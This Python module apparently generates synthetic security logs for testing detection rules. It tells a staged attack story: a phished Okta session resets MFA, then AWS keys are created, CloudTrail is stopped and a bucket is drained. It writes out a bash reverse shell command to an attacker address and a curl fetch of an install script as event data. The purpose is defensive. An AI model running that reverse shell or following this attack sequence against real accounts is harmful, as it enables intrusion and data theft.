"""An attack inside an ordinary day: events of four sources in time order, and what is true about them.

Pure: seed, time and size in, events out.

The story: a phished Okta session turns off its victim's second factor and makes itself administrator; the same address signs in to
the AWS console without MFA, makes an access key for a service user, stops CloudTrail and empties a bucket; meanwhile a build server
opens a shell to that address, whose domain and traffic Suricata sees.
"""

from __future__ import annotations

import itertools
import random
from collections import Counter
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from datetime import datetime, timedelta
from typing import Any, Final

from panther_dagster.demo import cloudtrail, okta, osquery, suricata
from panther_dagster.demo.company import (
    ACCOUNT_ID,
    ATTACKER_ADDRESS,
    ATTACKER_DOMAIN,
    ATTACKER_PLACE,
    EXPORTS_BUCKET,
    TRAIL_ARN,
    Company,
    access_key_id,
    found_company,
    random_text,
)

Event = dict[str, Any]
WINDOW: Final = timedelta(hours=2)  # the story's length; its end is `now_utc`
OBJECTS_READ: Final = 150
STOLEN_USER: Final = "svc-backup"
_AGENT = ("Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0", "Linux", "FIREFOX")
_SHARE_BY_SOURCE = {"cloudtrail": 0.38, "okta": 0.14, "osquery": 0.18, "suricata": 0.30}
_SURICATA_LOG_TYPES = {
    "alert": "Suricata.Alert",
    "anomaly": "Suricata.Anomaly",
    "dhcp": "Suricata.DHCP",
    "dns": "Suricata.DNS",
    "fileinfo": "Suricata.FileInfo",
    "flow": "Suricata.Flow",
    "http": "Suricata.HTTP",
    "ssh": "Suricata.SSH",
    "tls": "Suricata.TLS",
}


@dataclass(frozen=True)
class Step:
    """One act of the attack: when, what, and how many events of which log type show it."""

    name: str
    time_utc: datetime
    log_type: str
    description: str
    events: int


@dataclass(frozen=True)
class StoryTruth:
    """What a lake must hold after it has taken the story in."""

    seed: int
    start_utc: datetime
    end_utc: datetime
    attacker_address: str
    attacker_domain: str
    events_by_log_type: dict[str, int]
    attacker_events_by_log_type: dict[str, int]  # that carry the attacker's address
    steps: tuple[Step, ...]
    rule_ids: tuple[str, ...]  # that must match

    def to_json(self) -> dict[str, Any]:
        """Plain values; times as ISO 8601."""
        plain = asdict(self)
        for row in (plain, *plain["steps"]):
            row.update({name: value.isoformat() for name, value in row.items() if isinstance(value, datetime)})
        return plain


@dataclass(frozen=True)
class StoryEvent:
    """One event: its time, the source that delivers it, its log type and its body."""

    time_utc: datetime
    source: str  # cloudtrail, okta, osquery, suricata
    log_type: str
    body: Event


@dataclass(frozen=True)
class Story:
    """Events in time order and the truth about them."""

    events: tuple[StoryEvent, ...]
    truth: StoryTruth


def tell_story(*, seed: int, now_utc: datetime, events: int) -> Story:
    """The attack among `events` ordinary events, in the two hours before `now_utc` (naive UTC, cut to the second)."""
    end = now_utc.replace(microsecond=0)
    start = end - WINDOW
    company = found_company(random.Random(f"{seed}:company"))
    acts = list(_acts(random.Random(f"{seed}:attack"), company, start))
    told = [event for _, act in acts for event in act]
    told += _ordinary(seed, company, start, end, events)
    told.sort(key=lambda event: event.time_utc)  # stable: events of one instant stay in the order they were made
    by_log_type = Counter(event.log_type for event in told)
    of_attacker = Counter(event.log_type for event in told if ATTACKER_ADDRESS in str(event.body))
    truth = StoryTruth(
        seed=seed,
        start_utc=start,
        end_utc=end,
        attacker_address=ATTACKER_ADDRESS,
        attacker_domain=ATTACKER_DOMAIN,
        events_by_log_type=dict(sorted(by_log_type.items())),
        attacker_events_by_log_type=dict(sorted(of_attacker.items())),
        steps=tuple(step for step, _ in acts),
        rule_ids=RULE_IDS,
    )
    return Story(tuple(told), truth)


# Rules of this project that the attack must trigger, in the order of the story; the last two join its traces over sources.
RULE_IDS: Final[tuple[str, ...]] = (
    "Okta.SignIn.AnonymisingProxy",
    "Okta.SignIn.UnfamiliarCountryAndDevice",
    "Okta.MFA.FactorsReset",
    "Okta.Admin.RoleGranted",
    "AWS.Console.SignInWithoutSecondFactor",
    "AWS.IAM.AccessKeyForOtherUser",
    "AWS.CloudTrail.LoggingSwitchedOff",
    "AWS.S3.BulkDownload",
    "Suricata.FileInfo.ProgramDownloaded",
    "Osquery.Process.ReverseShell",
    "Osquery.Sockets.ShellWithConnection",
    "Suricata.Alert.HighestSeverity",
    "Suricata.TLS.UntrustedCertificate",
    "Suricata.Flow.LargeUpload",
    "CrossSource.Network.ListedAddress",
    "CrossSource.Network.ListedDomain",
)


def log_type_of(source: str, body: Event) -> str:
    """Log type of an event that this package made."""
    if source == "suricata":
        return _SURICATA_LOG_TYPES.get(body["event_type"], "Suricata.Event")
    if source == "osquery":
        kinds = {"columns": "Differential", "snapshot": "Snapshot", "diffResults": "Batch"}
        return "Osquery." + next((kind for key, kind in kinds.items() if key in body), "Status")
    return {"cloudtrail": "AWS.CloudTrail", "okta": "Okta.SystemLog"}[source]


def _ordinary(seed: int, company: Company, start: datetime, end: datetime, events: int) -> list[StoryEvent]:
    makers = {"okta": okta, "osquery": osquery, "suricata": suricata, "cloudtrail": cloudtrail}
    told: list[StoryEvent] = []
    for source, module in makers.items():
        rng = random.Random(f"{seed}:{source}")
        made = module.ordinary_calls(rng, company, start, end) if module is cloudtrail else module.ordinary_events(rng, company, start, end)
        # CloudTrail is last and makes up what rounding left.
        count = events - len(told) if source == "cloudtrail" else round(events * _SHARE_BY_SOURCE[source])
        told += (_event(source, time_utc, body) for time_utc, body in itertools.islice(made, count))
    return told


def _event(source: str, time_utc: datetime, body: Event) -> StoryEvent:
    return StoryEvent(time_utc, source, log_type_of(source, body), body)


def _acts(rng: random.Random, company: Company, start: datetime) -> Iterator[tuple[Step, list[StoryEvent]]]:
    yield from _okta_acts(rng, company, start)
    yield from _aws_acts(rng, company, start)
    yield from _shell_acts(rng, company, start)


def _act(source: str, name: str, description: str, timed: list[tuple[datetime, Event]]) -> tuple[Step, list[StoryEvent]]:
    events = [_event(source, time_utc, body) for time_utc, body in timed]
    return Step(name, events[0].time_utc, events[0].log_type, description, len(events)), events


def _okta_acts(rng: random.Random, company: Company, start: datetime) -> Iterator[tuple[Step, list[StoryEvent]]]:
    victim = company.victim
    session_id = "102" + random_text(rng, 22)

    def event(minutes: float, event_type: str, **details: Any) -> tuple[datetime, Event]:
        time_utc = start + timedelta(minutes=minutes)
        body = okta.okta_event(
            rng,
            time_utc,
            event_type,
            victim,
            address=ATTACKER_ADDRESS,
            place=ATTACKER_PLACE,
            session_id=session_id,
            is_proxy=True,
            provider=(64511, "example anonymous hosting", "cdn-telemetry.example.net"),
            agent=_AGENT,
            **details,
        )
        return time_utc, body

    risk = {
        "behaviors": "{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New State=POSITIVE, New Country=POSITIVE, "
        "Velocity=POSITIVE, New City=POSITIVE}",
        "risk": "{reasons=Anomalous Geo-distance, Anomalous Device, level=HIGH}",
        "threatSuspected": "true",
    }
    me = [okta.user_target(victim)]
    signing_in = [event(8, "user.authentication.auth_via_mfa", targets=me, debug={"factor": "OKTA_VERIFY_PUSH"})]
    signing_in.append(event(8.1, "user.session.start", debug=risk))
    yield _act(
        "okta", "phished session", f"{victim.email} signs in to Okta from {ATTACKER_ADDRESS}, a proxy in another country", signing_in
    )
    users = f"/api/v1/users/{victim.okta_id}"
    resetting = [event(12, "user.mfa.factor.reset_all", targets=me, uri=f"{users}/lifecycle/reset_factors")]
    resetting.append(event(12.7, "user.mfa.factor.activate", targets=me, uri=f"{users}/factors", debug={"factor": "GOOGLE_OTP"}))
    yield _act("okta", "factors reset", "all MFA factors of the account are reset and a new one is enrolled", resetting)
    granted = {"privilegeGranted": "Super administrator"}
    granting = [event(16, "user.account.privilege.grant", targets=me, uri="/api/internal/administrators", debug=granted)]
    yield _act("okta", "administrator", "the account is made super administrator", granting)


def _aws_acts(rng: random.Random, company: Company, start: datetime) -> Iterator[tuple[Step, list[StoryEvent]]]:
    victim = company.victim
    user, console_key, stolen_key = cloudtrail.identity_of_user(victim), access_key_id(rng, is_temporary=True), access_key_id(rng)
    signed_in = start + timedelta(minutes=23)
    session = cloudtrail.identity_of_user(victim, key_id=console_key)
    session["sessionContext"] = {"attributes": {"creationDate": f"{signed_in:%Y-%m-%dT%H:%M:%SZ}", "mfaAuthenticated": "false"}}

    def call(minutes: float, service: str, name: str, **details: Any) -> tuple[datetime, Event]:
        time_utc = start + timedelta(minutes=minutes)
        details = {"agent": _AGENT[0], "more": {"sessionCredentialFromConsole": "true"}, **details}
        return time_utc, cloudtrail.api_call(rng, time_utc, service, name, session, address=ATTACKER_ADDRESS, **details)

    login = cloudtrail.console_login(rng, signed_in, user, address=ATTACKER_ADDRESS, has_mfa=False, agent=_AGENT[0])
    looks = [call(23.6 + n * 0.4, "iam", name) for n, name in enumerate(("ListUsers", "ListAccessKeys", "GetAccountAuthorizationDetails"))]
    text = f"{victim.user_name} signs in to the AWS console without MFA from the same address and lists users"
    yield _act("cloudtrail", "console login", text, [(signed_in, login), *looks])
    created = start + timedelta(minutes=28)
    key = {
        "accessKeyId": stolen_key,
        "status": "Active",
        "userName": STOLEN_USER,
        "createDate": f"{created:%b} {created.day}, {created:%Y}, {created:%I:%M:%S %p}",
    }
    parameters = {"userName": STOLEN_USER}
    making = [call(28, "iam", "CreateAccessKey", parameters=parameters, response={"accessKey": key}, is_read_only=False)]
    yield _act("cloudtrail", "new access key", f"a second access key is made for {STOLEN_USER}", making)
    stopping = [call(33, "cloudtrail", "StopLogging", parameters={"name": TRAIL_ARN}, is_read_only=False)]
    yield _act("cloudtrail", "logging stopped", f"the trail {TRAIL_ARN.rsplit('/', 1)[1]} is stopped", stopping)
    thief = cloudtrail.identity_of_service_user(STOLEN_USER, key_id=stolen_key)
    reading = []
    for number in range(OBJECTS_READ):
        time_utc = start + timedelta(minutes=41, seconds=number * 4 + rng.randrange(3))
        path = f"customers/2024/{number // 30 + 1:02d}/export-{number:04d}.csv.gz"
        body = cloudtrail.object_read(
            rng,
            time_utc,
            thief,
            address=ATTACKER_ADDRESS,
            bucket=EXPORTS_BUCKET,
            key=path,
            agent="aws-cli/2.15.30 md/awscrt#0.19.19 os/linux",
        )
        reading.append((time_utc, body))
    text = f"the new key reads {OBJECTS_READ} objects of s3://{EXPORTS_BUCKET} (account {ACCOUNT_ID})"
    yield _act("cloudtrail", "bucket emptied", text, reading)


def _shell_acts(rng: random.Random, company: Company, start: datetime) -> Iterator[tuple[Step, list[StoryEvent]]]:
    host = company.foothold
    at = start + timedelta(minutes=62)
    connection = suricata.connect(rng, host.address, ATTACKER_ADDRESS, 80)
    fetched = at + timedelta(seconds=1)
    calling = suricata.name_lookup(rng, at, host.address, ATTACKER_DOMAIN, ATTACKER_ADDRESS)
    calling += suricata.download(
        rng,
        fetched,
        connection,
        host=ATTACKER_DOMAIN,
        url="/agent/install.sh",
        agent="curl/8.5.0",
        content_type="application/x-sh",
        size=1_874,
    )
    yield _act("suricata", "download", f"{host.name} looks up {ATTACKER_DOMAIN} and fetches a script from it", calling)

    shell_pid, started = 31_337, at + timedelta(seconds=4)
    command = f"bash -i >& /dev/tcp/{ATTACKER_ADDRESS}/443 0>&1"
    process = osquery.process_columns(rng, started, "/usr/bin/bash", command, uid=1002, pid=shell_pid, parent=31_330)
    socket = osquery.socket_columns(rng, host, ATTACKER_ADDRESS, 443, path="/usr/bin/bash", pid=shell_pid)
    seen = started + timedelta(seconds=10)
    shell = [
        (started, osquery.differential(rng, started, host, "pack_incident-response_process_events", process, user="ci")),
        (seen, osquery.differential(rng, seen, host, "pack_incident-response_process_open_sockets", socket, user="ci")),
    ]
    yield _act("osquery", "reverse shell", f"bash on {host.name} opens a shell to {ATTACKER_ADDRESS}:443", shell)

    shell_tunnel = suricata.Connection(rng.randrange(10**14, 2 * 10**15), host.address, int(socket["local_port"]), ATTACKER_ADDRESS, 443)
    alerted = started + timedelta(seconds=2)
    alert = suricata.alert_event(
        alerted,
        shell_tunnel,
        signature_id=9_000_001,
        signature="LOCAL MALWARE Interactive shell to known command and control address",
        category="A Network Trojan was detected",
        severity=1,
        protocol="failed",  # what Suricata says of a plain shell
    )
    tunnel = suricata.connect(rng, host.address, ATTACKER_ADDRESS, 443)
    hello, ended = started + timedelta(seconds=30), started + timedelta(minutes=38)
    flow = suricata.flow_event(
        rng, ended, tunnel, seconds=2_249, bytes_out=734_003_200, bytes_in=1_874_221, protocol="tls", is_alerted=True
    )
    traffic = [
        (alerted, alert),
        (hello, suricata.tls_event(rng, hello, tunnel, ATTACKER_DOMAIN, issuer=f"CN={ATTACKER_DOMAIN}")),
        (ended, flow),
    ]
    yield _act("suricata", "command and control", f"an alert, TLS to {ATTACKER_DOMAIN}, and 700 MB that leave {host.name}", traffic)
    beacons = []
    for minute in range(5, 40, 5):
        time_utc = at + timedelta(minutes=minute, seconds=rng.randrange(5))
        beacons += suricata.name_lookup(rng, time_utc, host.address, ATTACKER_DOMAIN, ATTACKER_ADDRESS)
    yield _act("suricata", "beacons", f"{host.name} looks up {ATTACKER_DOMAIN} every five minutes", beacons)
